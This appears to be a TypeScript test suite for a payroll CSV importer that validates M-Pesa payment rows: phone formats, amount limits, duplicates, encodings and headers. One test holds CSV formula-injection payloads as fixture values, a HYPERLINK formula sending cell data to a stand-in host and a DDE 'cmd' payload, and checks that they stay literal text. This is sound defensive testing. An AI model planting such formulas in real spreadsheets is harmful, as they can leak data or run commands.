// Each nasty CSV fixture gives exactly these rows to pay and exactly these refusals, by spreadsheet row.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  previewCsv,
  previewPayrollFile,
  type ImportOptions,
  type ImportPreview,
} from '../../../src/main/payroll/import';
import { ValidationError } from '../../../src/shared/errors';

const fixture = (name: string): Buffer => readFileSync(new URL(`../../fixtures/imports/${name}`, import.meta.url));
const payrollFile: ImportOptions = { duplicatesAgainstExisting: 'warn' };
const refusals = (preview: ImportPreview): Array<{ row: number; reason: string }> =>
  preview.invalid.map(({ row, reason }) => ({ row, reason }));
const notSafaricom = (msisdn: string): string => `${msisdn} is not a Safaricom M-Pesa number`;
const notAmount = (text: string): string => `"${text}" is not an amount in shillings`;

describe('CSV import preview', () => {
  it('reads a BOM, semicolon file with synonym headers without splitting "1,000"', () => {
    const preview = previewCsv(fixture('bom-semicolon.csv'), payrollFile);
    expect(preview.valid).toEqual([
      {
        row: 2,
        name: 'Wanjiku Kamau',
        msisdn: '254712345678',
        amountCents: 100_000,
        reference: 'November salary',
        nationalId: '23456789',
        department: 'Operations',
      },
      {
        row: 3,
        name: 'Otieno Ochieng',
        msisdn: '254722000111',
        amountCents: 100_000,
        reference: 'November salary',
        department: 'Sales',
      },
    ]);
    expect(preview.invalid).toEqual([
      {
        row: 4,
        reason: 'M-Pesa pays whole shillings; KES 15,000.50 has cents',
        raw: ['Akinyi Njeri', '0110123456', '15,000.50', 'November salary', '34567890', ''],
      },
      {
        row: 5,
        reason: notSafaricom('254733123456'),
        raw: ['Kiprop Cheruiyot', '0733 123 456', '2,500', 'November salary', '', 'Field'],
      },
    ]);
    expect(preview.totals).toEqual({ count: 2, amountCents: 200_000 });
  });

  it('keeps quoted commas, doubled quotes and line breaks inside one row, numbered as a spreadsheet shows it', () => {
    const preview = previewCsv(fixture('quoted-multiline.csv'), payrollFile);
    expect(preview.valid).toEqual([
      {
        row: 2,
        name: 'Mwangi, Peter',
        msisdn: '254722111222',
        amountCents: 1_250_000,
        reference: 'Salary, November',
        department: 'Stores',
      },
      {
        row: 3,
        name: 'Achieng "Ache" Atieno',
        msisdn: '254722333444',
        amountCents: 300_000,
        reference: 'Advance to be recovered in December',
        department: 'Kitchen, Main',
      },
      {
        row: 4,
        name: 'Halima Abdi',
        msisdn: '254722555666',
        amountCents: 400_000,
        reference: 'November wages',
        department: 'Security',
      },
      {
        row: 6,
        name: 'Njoroge Kariuki',
        msisdn: '254722999000',
        amountCents: 500_000,
        reference: 'Payroll',
        department: 'Stores',
      },
    ]);
    expect(refusals(preview)).toEqual([{ row: 5, reason: notAmount('1,2,3') }]);
    expect(preview.invalid[0]?.raw).toEqual(['Baraka Mutua', '0722777888', '1,2,3', 'November wages', 'Stores\n']);
    // Reference is optional: row 6 has none and is paid with the default, which the preview says.
    expect(preview.notes).toEqual(['1 row has no reference; it is paid with the reference "Payroll"']);
    expect(preview.totals).toEqual({ count: 4, amountCents: 2_450_000 });
  });

  it('keeps text that starts with = + - @ as literal text, and never reads a formula as a phone or amount', () => {
    const preview = previewCsv(fixture('formula-injection.csv'), payrollFile);
    expect(preview.valid).toEqual([
      {
        row: 2,
        name: '=HYPERLINK("http://example.test/?x="&A2,"Click")',
        msisdn: '254712000001',
        amountCents: 100_000,
        reference: 'November salary',
        department: 'Sales',
      },
      {
        row: 3,
        name: '+Wafula Simiyu',
        msisdn: '254712000002',
        amountCents: 100_000,
        reference: '=1+2',
        department: '@SUM(A1:A2)',
      },
      {
        row: 4,
        name: '-Chebet Koech',
        msisdn: '254712000003',
        amountCents: 100_000,
        reference: '-Advance',
        department: "=cmd|' /C calc'!A0",
      },
    ]);
    expect(refusals(preview)).toEqual([
      { row: 5, reason: '"=0712000004" is not a phone number (only digits, spaces, dashes and a leading +)' },
      { row: 6, reason: notAmount('=500*2') },
      { row: 7, reason: 'Amount KES -500.00 is below the M-Pesa minimum of KES 10.00 per payment' },
    ]);
  });

  it('accepts every Kenyan way of writing a Safaricom number and says why the others cannot be paid', () => {
    const preview = previewCsv(fixture('mixed-phones.csv'), payrollFile);
    expect(preview.valid.map(({ row, msisdn }) => ({ row, msisdn }))).toEqual([
      { row: 2, msisdn: '254712345678' },
      { row: 3, msisdn: '254110123456' },
      { row: 4, msisdn: '254722000111' },
      { row: 5, msisdn: '254711222333' },
      { row: 6, msisdn: '254768123456' },
      { row: 7, msisdn: '254729444555' },
    ]);
    expect(refusals(preview)).toEqual([
      { row: 8, reason: notSafaricom('254733123456') },
      { row: 9, reason: '"020 1234567" is not a Kenyan mobile number' },
      { row: 10, reason: '"07123" is not a valid Kenyan phone number' },
      { row: 11, reason: '"07a2345678" is not a phone number (only digits, spaces, dashes and a leading +)' },
      { row: 12, reason: '"+255712345678" is not a Kenyan phone number' },
      { row: 13, reason: 'Phone number is empty' },
    ]);
  });

  it('holds amounts to the B2C limits (KES 10 to 250,000) and to whole shillings', () => {
    const preview = previewCsv(fixture('amounts.csv'), payrollFile);
    expect(preview.valid.map(({ row, amountCents }) => ({ row, amountCents }))).toEqual([
      { row: 3, amountCents: 1_000 },
      { row: 4, amountCents: 25_000_000 },
      { row: 10, amountCents: 100_000 },
    ]);
    expect(refusals(preview)).toEqual([
      { row: 2, reason: 'Amount KES 9.00 is below the M-Pesa minimum of KES 10.00 per payment' },
      { row: 5, reason: 'Amount KES 250,001.00 is above the M-Pesa maximum of KES 250,000.00 per payment' },
      { row: 6, reason: 'M-Pesa pays whole shillings; KES 100.50 has cents' },
      { row: 7, reason: 'Amount KES -500.00 is below the M-Pesa minimum of KES 10.00 per payment' },
      { row: 8, reason: notAmount('five hundred') },
      { row: 9, reason: 'Amount is empty' },
      { row: 11, reason: 'Amount KES 0.00 is below the M-Pesa minimum of KES 10.00 per payment' },
    ]);
    expect(preview.totals).toEqual({ count: 3, amountCents: 25_101_000 });
  });

  it('pays a phone once per file: later rows are refused naming the first, even when the first is refused', () => {
    const preview = previewCsv(fixture('duplicates.csv'), payrollFile);
    expect(preview.valid.map(({ row, name }) => ({ row, name }))).toEqual([
      { row: 2, name: 'Wanjiku Kamau' },
      { row: 3, name: 'Otieno Ochieng' },
      { row: 5, name: 'Saved worker' },
    ]);
    expect(refusals(preview)).toEqual([
      { row: 4, reason: 'Phone 0712 345 678 is already in row 2' },
      { row: 6, reason: 'Amount KES 5.00 is below the M-Pesa minimum of KES 10.00 per payment' },
      { row: 7, reason: 'Phone 0722 000 111 is already in row 3' },
      { row: 8, reason: 'Phone 0799 000 222 is already in row 6' },
    ]);
    expect(preview.totals).toEqual({ count: 3, amountCents: 600_000 });
    expect(preview.warnings).toEqual([]);
  });

  it('warns about saved workers in a payroll file but refuses them in a workers import', () => {
    const existingPhones = new Map([['254799000111', 'Mary Saved']]);
    const payroll = previewCsv(fixture('duplicates.csv'), { existingPhones, duplicatesAgainstExisting: 'warn' });
    expect(payroll.valid.map((r) => r.row)).toEqual([2, 3, 5]);
    expect(payroll.warnings).toEqual([
      {
        row: 5,
        message:
          'Phone 0799 000 111 belongs to saved worker Mary Saved, not to "Saved worker"; check it is the right number',
      },
    ]);

    const workers = previewCsv(fixture('duplicates.csv'), { existingPhones, duplicatesAgainstExisting: 'invalid' });
    expect(workers.valid.map((r) => r.row)).toEqual([2, 3]);
    expect(workers.invalid.find((r) => r.row === 5)?.reason).toBe(
      'Phone 0799 000 111 belongs to saved worker Mary Saved, not to "Saved worker"; check it is the right number',
    );
    expect(workers.warnings).toEqual([]);
    expect(workers.totals).toEqual({ count: 2, amountCents: 300_000 });
  });

  it('skips blank rows silently without renumbering the rest', () => {
    const preview = previewCsv(fixture('empty-rows.csv'), payrollFile);
    expect(preview.valid.map(({ row, name }) => ({ row, name }))).toEqual([
      { row: 4, name: 'Wanjiku Kamau' },
      { row: 7, name: 'Otieno Ochieng' },
      { row: 9, name: 'Akinyi Njeri' },
    ]);
    expect(preview.invalid).toEqual([]);
    expect(preview.totals).toEqual({ count: 3, amountCents: 600_000 });
  });

  it('the clean 50-row file has 47 payable rows; rows 12 (Airtel), 27 (above maximum) and 41 (repeats row 5) are refused', async () => {
    const preview = await previewPayrollFile(fixture('clean-50.csv'), payrollFile);
    expect(preview.totals.count).toBe(47);
    expect(preview.valid).toHaveLength(47);
    expect(refusals(preview)).toEqual([
      { row: 12, reason: notSafaricom('254733400112') },
      { row: 27, reason: 'Amount KES 300,000.00 is above the M-Pesa maximum of KES 250,000.00 per payment' },
      { row: 41, reason: 'Phone 0710 104 113 is already in row 5' },
    ]);
    const expectedCents = Array.from({ length: 50 }, (_, i) => i + 2)
      .filter((row) => ![12, 27, 41].includes(row))
      .reduce((sum, row) => sum + (12_000 + (row - 2) * 250) * 100, 0);
    expect(preview.totals.amountCents).toBe(expectedCents);
    expect(preview.valid[0]).toEqual({
      row: 2,
      name: 'Wanjiku Kamau',
      msisdn: '254710100000',
      amountCents: 1_200_000,
      reference: 'November 2026 salary',
      nationalId: '20000000',
      department: 'Operations',
    });
  });

  it('refuses a file whose header lacks a required column, naming it', () => {
    // Reference is optional: a file without it is read.
    expect(previewCsv(fixture('missing-column.csv'), payrollFile).valid.map((r) => r.reference)).toEqual(['Payroll']);
    expect(() => previewCsv('name,amount\nA,100\n', payrollFile)).toThrow(ValidationError);
    expect(() => previewCsv('name,amount,Simu\nA,100,0712345678\n', payrollFile)).toThrow(
      'The file has no phone column; titles not recognised: "Simu"',
    );
    expect(() => previewCsv('Mshahara,Simu\nA,0712345678\n', payrollFile)).toThrow(/no name, phone, amount columns/);
    expect(() => previewCsv('Phone,MSISDN,name,amount,ref\n', payrollFile)).toThrow(
      'Both "Phone" and "MSISDN" look like the phone column; keep only one, or choose which one',
    );
    expect(() => previewCsv('\n\n', payrollFile)).toThrow(/The file is empty/);
  });

  it('reads tab-separated UTF-16 as Excel saves it, and names invalid UTF-8 rather than guessing', () => {
    const text = 'Name\tMobile\tNet Pay\tNarration\nJosé Ñyaga\t0712345678\t1500\tSalary\n';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    expect(previewCsv(utf16, payrollFile).valid).toEqual([
      { row: 2, name: 'José Ñyaga', msisdn: '254712345678', amountCents: 150_000, reference: 'Salary' },
    ]);
    // Windows-1252 is not guessed: a wrong guess would change names silently. The refusal says where and what to do.
    const latin1 = Buffer.from('name,phone,amount,reference\nJos\xe9 Nyaga,0712345678,1500,Salary\n', 'latin1');
    expect(() => previewCsv(latin1, payrollFile)).toThrow(
      'The file is not UTF-8 text: line 2 has the byte 0xE9, which UTF-8 does not allow',
    );
  });

  it('refuses an old .xls file with a way forward', async () => {
    const xls = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    await expect(previewPayrollFile(xls, payrollFile)).rejects.toThrow(/old Excel \.xls file; save it as \.xlsx/);
  });
});
